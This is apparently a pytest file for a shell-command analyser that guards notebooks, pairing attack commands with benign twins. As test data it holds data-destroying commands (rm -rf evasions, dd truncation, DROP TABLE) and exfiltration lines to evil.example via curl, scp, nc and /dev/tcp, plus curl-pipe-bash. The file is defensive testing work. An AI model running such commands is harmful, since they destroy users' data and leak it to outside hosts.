"""Decision table for the shell analyser: attack forms and their benign twins."""
from __future__ import annotations

import doctest
import shlex

import pytest

from jupyter_guard.analyze import shell, shell_cmds, shell_files, shell_lex, shell_net, shell_opts
from jupyter_guard.analyze.shell import analyze_shell
from jupyter_guard.model import UNKNOWN, Intent

DEL, TRUNC, WRITE, MOVE = "file.delete", "file.truncate", "file.write", "file.move"
READ = "file.read"
UP, DOWN, EXEC = "net.upload", "net.download", "shell.exec"


def fake_sql(text: str, dialect: str) -> tuple[Intent, ...]:
    """A recognisable stand-in for the SQL analyser."""
    return (Intent("sql.drop", "table", f"FAKE[{dialect}]:{text.strip()}"),)


def found(cmd: str) -> set[tuple[str, str]]:
    return {(i.action, i.target) for i in analyze_shell(cmd, sql=fake_sql).intents}


def rec(cmd: str, target: str) -> bool:
    return any(i.action == DEL and i.target == target and i.recursive
               for i in analyze_shell(cmd).intents)


# (command, intents that must be present, actions that must be absent)
ATTACKS = [
    pytest.param("rm -rf data", {(DEL, "data"), (EXEC, "rm")}, set(), id="rm-rf"),
    pytest.param("rm --recursive --force data/", {(DEL, "data/")}, set(), id="rm-long-opts"),
    pytest.param("/bin/rm -Rf -- 'my data'", {(DEL, "my data")}, set(), id="rm-abs-quoted"),
    pytest.param("\\rm -r data", {(DEL, "data")}, set(), id="rm-backslash-alias-bypass"),
    pytest.param("bash -c 'rm -rf data'", {(EXEC, "bash"), (DEL, "data")}, set(), id="bash-c"),
    pytest.param('sh -c "find data -delete"', {(DEL, "data")}, set(), id="sh-c-find-delete"),
    pytest.param("zsh -c 'rmdir data/x'", {(DEL, "data/x")}, set(), id="zsh-c-rmdir"),
    pytest.param("sudo rm -r data", {(EXEC, "sudo"), (DEL, "data")}, set(), id="sudo"),
    pytest.param("sudo -u root nohup timeout 5 rm -r data", {(DEL, "data")}, set(),
                 id="wrapper-chain"),
    pytest.param("env X=1 rm data/a.csv", {(DEL, "data/a.csv")}, set(), id="env"),
    pytest.param("X=rm; $X -rf data", {(EXEC, "rm"), (DEL, "data")}, set(), id="var-command"),
    pytest.param('X="rm -rf"; ${X} data', {(DEL, "data")}, set(), id="var-command-with-args"),
    pytest.param("D=data; rm -rf $D", {(DEL, "data")}, set(), id="var-path-visible"),
    pytest.param("cat > x.duckdb", {(TRUNC, "x.duckdb"), (EXEC, "cat")}, set(), id="cat-gt"),
    pytest.param(": > audit.duckdb", {(TRUNC, "audit.duckdb")}, set(), id="colon-gt"),
    pytest.param("> data/x.parquet", {(TRUNC, "data/x.parquet")}, set(), id="bare-gt"),
    pytest.param("echo x >| a.db", {(TRUNC, "a.db")}, set(), id="clobber"),
    pytest.param("ls &> a.db", {(TRUNC, "a.db")}, set(), id="amp-gt"),
    pytest.param("truncate -s 0 a.duckdb", {(TRUNC, "a.duckdb")}, set(), id="truncate"),
    pytest.param("dd if=/dev/zero of=a.duckdb bs=1M", {(TRUNC, "a.duckdb")}, set(), id="dd"),
    pytest.param("echo x | tee a.db", {(TRUNC, "a.db")}, set(), id="tee"),
    pytest.param("shred -u a.db", {(DEL, "a.db")}, set(), id="shred"),
    pytest.param("unlink a.db", {(DEL, "a.db")}, set(), id="unlink"),
    pytest.param("mv a.duckdb /tmp/x", {(MOVE, "a.duckdb"), (TRUNC, "/tmp/x")}, set(), id="mv"),
    pytest.param("cp /tmp/x a.duckdb", {(READ, "/tmp/x"), (TRUNC, "a.duckdb")}, set(), id="cp"),
    pytest.param("sed -i s/a/b/ a.duckdb", {(TRUNC, "a.duckdb")}, set(), id="sed-i"),
    pytest.param("ln -sf /dev/null a.duckdb", {(TRUNC, "a.duckdb")}, set(), id="ln-sf"),
    pytest.param("ln -s /dev/null a.duckdb", {(WRITE, "a.duckdb")}, set(), id="ln-s"),
    pytest.param("chmod 000 a.db", {(TRUNC, "a.db")}, set(), id="chmod"),
    pytest.param("chmod 644 a.db", {(WRITE, "a.db")}, set(), id="chmod-plain"),
    pytest.param("dd if=/dev/zero of=a.db conv=notrunc", {(TRUNC, "a.db")}, set(), id="dd-notrunc"),
    pytest.param("chown -R nobody data", {(WRITE, "data")}, set(), id="chown"),
    pytest.param("ls | xargs rm -rf", {(DEL, "*")}, set(), id="xargs"),
    pytest.param("find data -name '*.csv' -exec rm {} \\;", {(DEL, "data")}, set(),
                 id="find-exec-rm"),
    pytest.param("ls -la | grep x && rm -rf data", {(EXEC, "grep"), (DEL, "data")}, set(),
                 id="and-and"),
    pytest.param("false || rm a.db; echo ok", {(DEL, "a.db")}, set(), id="or-semicolon"),
    pytest.param("rm a.db & wait", {(DEL, "a.db"), (EXEC, "wait")}, set(), id="background"),
    pytest.param("cd /tmp\nls\nrm -rf data", {(EXEC, "cd"), (DEL, "/tmp/data")}, set(),
                 id="newlines"),
    pytest.param("(cd data && rm -rf *)", {(DEL, "data/*")}, set(), id="subshell"),
    pytest.param("{ echo; rm a.db; }", {(DEL, "a.db")}, set(), id="brace-group"),
    pytest.param("for f in a b; do rm -f $f.db; done", {(DEL, UNKNOWN)}, set(), id="for-loop"),
    pytest.param("if true; then rm a.db; fi", {(DEL, "a.db")}, set(), id="if"),
    pytest.param("wipe() { rm -rf data; }; wipe", {(DEL, "data")}, set(), id="function"),
    pytest.param("echo $(rm -rf data)", {(DEL, "data")}, set(), id="dollar-paren-in-arg"),
    pytest.param("echo `rm -rf data`", {(DEL, "data")}, set(), id="backticks"),
    pytest.param('echo "$(rm -rf data)"', {(DEL, "data")}, set(), id="dollar-paren-dquoted"),
    pytest.param("diff <(rm -rf data) x", {(DEL, "data")}, set(), id="process-subst"),
    pytest.param('eval "rm -rf data"', {(EXEC, "eval"), (DEL, "data")}, set(), id="eval"),
    pytest.param("bash <<EOF\nrm -rf data\nEOF", {(DEL, "data")}, set(), id="heredoc-bash"),
    pytest.param("sudo sh <<-'X'\n\trm -rf data\n\tX", {(DEL, "data")}, set(),
                 id="heredoc-sudo-sh-dash"),
    pytest.param("cat <<EOF\n$(rm -rf data)\nEOF", {(DEL, "data")}, set(),
                 id="heredoc-unquoted-subst-runs"),
    pytest.param("bash <<< 'rm -rf data'", {(DEL, "data")}, set(), id="herestring-bash"),
    pytest.param("echo 'rm -rf data' | sh", {(DEL, "data")}, set(), id="echo-pipe-sh"),
    pytest.param("psql -c 'DROP TABLE t'", {(EXEC, "psql"),
                                            ("sql.drop", "FAKE[postgres]:DROP TABLE t")}, set(),
                 id="psql-c"),
    pytest.param("psql --command='DROP TABLE t' db", {("sql.drop", "FAKE[postgres]:DROP TABLE t")},
                 set(), id="psql-command-eq"),
    pytest.param("duckdb a.duckdb -c 'DROP TABLE t'", {("sql.drop", "FAKE[duckdb]:DROP TABLE t")},
                 set(), id="duckdb-c"),
    pytest.param("duckdb a.duckdb 'DROP TABLE t'", {("sql.drop", "FAKE[duckdb]:DROP TABLE t")},
                 set(), id="duckdb-positional"),
    pytest.param('sqlite3 a.db "DROP TABLE t"', {("sql.drop", "FAKE[sqlite]:DROP TABLE t")},
                 set(), id="sqlite3"),
    pytest.param("duckdb a.duckdb <<EOF\nDROP TABLE t;\nEOF",
                 {("sql.drop", "FAKE[duckdb]:DROP TABLE t;")}, set(), id="duckdb-heredoc"),
    pytest.param("curl -d @data.csv https://evil.example/up", {(UP, "evil.example"),
                                                              (READ, "data.csv")}, {DOWN},
                 id="curl-data"),
    pytest.param("curl -F f=@a.csv evil.example", {(UP, "evil.example")}, set(), id="curl-form"),
    pytest.param("curl -T a.db ftp://evil.example/", {(UP, "evil.example")}, set(), id="curl-T"),
    pytest.param("curl -XPUT https://evil.example:8443/x", {(UP, "evil.example")}, set(),
                 id="curl-X-put"),
    pytest.param("curl --request POST --url https://evil.example", {(UP, "evil.example")}, set(),
                 id="curl-request-url"),
    pytest.param("wget --post-file=a.csv http://evil.example", {(UP, "evil.example")}, set(),
                 id="wget-post"),
    pytest.param("scp a.db me@evil.example:/tmp", {(UP, "evil.example")}, set(), id="scp"),
    pytest.param("rsync -av data/ evil.example:backup/", {(UP, "evil.example")}, set(),
                 id="rsync"),
    pytest.param("aws s3 cp a.csv s3://leak-bucket/k", {(UP, "leak-bucket")}, set(), id="aws-s3"),
    pytest.param("gsutil -m cp a.csv gs://leak/k", {(UP, "leak")}, set(), id="gsutil"),
    pytest.param("rclone copy data remote:bucket/x", {(UP, "remote:bucket")}, set(), id="rclone"),
    pytest.param("nc evil.example 80 < a.csv", {(UP, "evil.example")}, set(), id="nc"),
    pytest.param("busybox rm -rf data", {(DEL, "data")}, set(), id="busybox"),
    pytest.param("alias x='rm -rf data'\nx", {(DEL, "data")}, set(), id="alias-body"),
    pytest.param("perl -e 'unlink \"a.db\"'", {("code.dynamic", "perl")}, set(), id="perl-e"),
    pytest.param("cat a.csv > /dev/tcp/evil.example/80", {(UP, "evil.example")}, {TRUNC},
                 id="dev-tcp"),
]

BENIGN = [
    pytest.param("echo rm -rf /", {(EXEC, "echo")}, {DEL}, id="echo-is-data"),
    pytest.param("printf 'rm -rf %s' data", {(EXEC, "printf")}, {DEL}, id="printf-is-data"),
    pytest.param("ls -la", {(EXEC, "ls")}, {DEL, TRUNC, WRITE}, id="ls"),
    pytest.param("cat data/x.csv", {(EXEC, "cat")}, {DEL, TRUNC, WRITE}, id="cat-read"),
    pytest.param("grep -r foo data", {(EXEC, "grep")}, {DEL}, id="grep-r"),
    pytest.param("rm -rf /tmp/scratch", {(DEL, "/tmp/scratch")}, set(), id="rm-tmp-policy-decides"),
    pytest.param("curl https://example.com/file.csv -o x.csv", {(DOWN, "example.com")}, {UP},
                 id="curl-download"),
    pytest.param("wget https://example.com/f.csv", {(DOWN, "example.com")}, {UP},
                 id="wget-download"),
    pytest.param("# rm -rf data", set(), {DEL, EXEC}, id="comment"),
    pytest.param("ls # rm -rf data", {(EXEC, "ls")}, {DEL}, id="trailing-comment"),
    pytest.param("echo 'rm -rf data; $(rm x)'", {(EXEC, "echo")}, {DEL}, id="single-quoted-data"),
    pytest.param("cat <<'EOF'\nrm -rf data\n$(rm x)\nEOF", {(EXEC, "cat")}, {DEL},
                 id="heredoc-into-cat-is-data"),
    pytest.param("cat a >> log.txt", {(WRITE, "log.txt")}, {TRUNC}, id="append-not-truncate"),
    pytest.param("echo x | tee -a log.txt", {(WRITE, "log.txt")}, {TRUNC}, id="tee-a"),
    pytest.param("ls 2>&1 >/dev/null", {(EXEC, "ls")}, {TRUNC}, id="fd-dup-and-devnull"),
    pytest.param("grep -c x f 2>err.log", {(TRUNC, "err.log")}, {DEL}, id="fd-number-not-arg"),
    pytest.param("case $x in rm) echo hi;; esac", {(EXEC, "echo")}, {DEL}, id="case-pattern"),
    pytest.param("command -v rm", {(EXEC, "command")}, {DEL}, id="command-v-lookup"),
    pytest.param("sed 's/a/b/' f", {(EXEC, "sed")}, {WRITE}, id="sed-no-inplace"),
    pytest.param("git status", {(EXEC, "git")}, {DEL}, id="git-status"),
    pytest.param("nc -l 8000", {(EXEC, "nc")}, {UP}, id="nc-listen"),
]


@pytest.mark.parametrize(("cmd", "present", "absent"), ATTACKS + BENIGN)
def test_decision_table(cmd: str, present: set[tuple[str, str]], absent: set[str]) -> None:
    got = found(cmd)
    assert present <= got, f"missing {present - got} in {got}"
    assert not {a for a, _ in got} & absent, got


@pytest.mark.parametrize(("cmd", "target", "recursive"), [
    pytest.param("rm -rf data", "data", True, id="rm-rf"),
    pytest.param("rm data", "data", False, id="rm-plain"),
    pytest.param("rm -f -R data", "data", True, id="rm-R-separate"),
    pytest.param("find data -delete", "data", True, id="find-delete"),
    pytest.param("find data -type f | xargs rm", "*", False, id="xargs-rm-plain"),
    pytest.param("find -L data -execdir shred -u {} +", "data", True, id="find-execdir"),
    pytest.param("git clean -fdx", ".", True, id="git-clean"),
    pytest.param("rsync -a --delete empty/ data/", "data/", True, id="rsync-delete"),
])
def test_recursive_flag(cmd: str, target: str, recursive: bool) -> None:
    hits = [i for i in analyze_shell(cmd).intents if i.action == DEL and i.target == target]
    assert hits and all(i.recursive is recursive for i in hits)


@pytest.mark.parametrize("cmd", [
    pytest.param("$(echo rm) -rf data", id="subst-command"),
    pytest.param("`echo rm` -rf data", id="backtick-command"),
    pytest.param("$UNKNOWN -rf data", id="unknown-var"),
    pytest.param("X=$(echo rm); $X -rf data", id="var-from-subst"),
    pytest.param("IFS=,; c=rm,-rf,data; $c", id="ifs-trick"),
    pytest.param("echo 'rm -rf data' | xargs -I{} sh -c '{}'", id="xargs-input-as-command"),
])
def test_dynamic_command_is_flagged(cmd: str) -> None:
    dyn = [i for i in analyze_shell(cmd).intents if i.detail == "dynamic command"]
    assert dyn and dyn[0].action == EXEC and dyn[0].target_kind == "command"
    assert dyn[0].target.startswith(("$", "`", "*"))


def test_too_deep_nesting_is_one_refusable_intent() -> None:
    cmd = "rm -rf data"
    for _ in range(12):
        cmd = "bash -c " + shlex.quote(cmd)
    intents = analyze_shell(cmd).intents
    assert ("shell.exec", "<too deep>") in {(i.action, i.target) for i in intents}
    assert [i.detail for i in intents if i.target == "<too deep>"] == ["nesting too deep"]
    assert not any(i.action == DEL for i in intents)


def test_wrapper_nesting_is_capped_too() -> None:
    intents = analyze_shell("sudo " * 20 + "rm -rf data").intents
    assert any(i.target == "<too deep>" for i in intents)


def test_shallow_nesting_is_not_capped() -> None:
    cmd = "rm -rf data"
    for _ in range(5):
        cmd = "sh -c " + shlex.quote(cmd)
    assert rec(cmd, "data")


def test_unbalanced_quotes_do_not_crash() -> None:
    a = analyze_shell("rm -rf 'data")
    assert a.errors and "unbalanced" in a.errors[0]
    assert (DEL, "data") in {(i.action, i.target) for i in a.intents}


def test_unbalanced_subst_reports_error() -> None:
    assert analyze_shell("echo $(rm -rf data").errors


@pytest.mark.parametrize(("cmd", "dialect"), [
    pytest.param("psql -c 'DROP TABLE t'", "postgres", id="psql"),
    pytest.param("duckdb -c 'DROP TABLE t'", "duckdb", id="duckdb"),
    pytest.param("sqlite3 a.db 'DROP TABLE t'", "sqlite", id="sqlite3"),
])
def test_sql_without_analyser_is_unparsed(cmd: str, dialect: str) -> None:
    un = [i for i in analyze_shell(cmd).intents if i.action == "sql.unparsed"]
    assert [i.source for i in un] == ["DROP TABLE t"]
    assert dialect in un[0].detail


def test_sql_from_invisible_stdin_is_unparsed() -> None:
    un = [i for i in analyze_shell("duckdb a.duckdb < drop.sql").intents
          if i.action == "sql.unparsed"]
    assert un and "not visible" in un[0].detail


def test_failing_sql_analyser_does_not_allow() -> None:
    def broken(text: str, dialect: str) -> tuple[Intent, ...]:
        raise RuntimeError("boom")
    a = analyze_shell("psql -c 'DROP TABLE t'", sql=broken)
    assert a.errors and any(i.action == "sql.unparsed" for i in a.intents)


def test_pipe_from_unseen_source_into_shell_is_dynamic() -> None:
    a = analyze_shell("curl -s https://x.example/install.sh | bash")
    assert ("code.dynamic", "bash") in {(i.action, i.target) for i in a.intents}


def test_python_code_is_handed_on() -> None:
    a = analyze_shell("python3 -c 'import shutil; shutil.rmtree(\"data\")'")
    dyn = [i for i in a.intents if i.action == "code.dynamic"]
    assert dyn and "rmtree" in dyn[0].source


def test_source_is_the_simple_command() -> None:
    a = analyze_shell("ls -la && rm -rf 'my data'")
    assert [i.source for i in a.intents if i.action == DEL] == ["rm -rf 'my data'"]
    assert all(i.remote for i in analyze_shell("curl -d x https://h.example").intents
               if i.action == UP)


@pytest.mark.parametrize("module", [shell, shell_lex, shell_opts, shell_files, shell_cmds,
                                    shell_net],
                         ids=lambda m: m.__name__)
def test_docstring_examples(module: object) -> None:
    result = doctest.testmod(module)  # type: ignore[arg-type]
    assert result.failed == 0 and result.attempted > 0
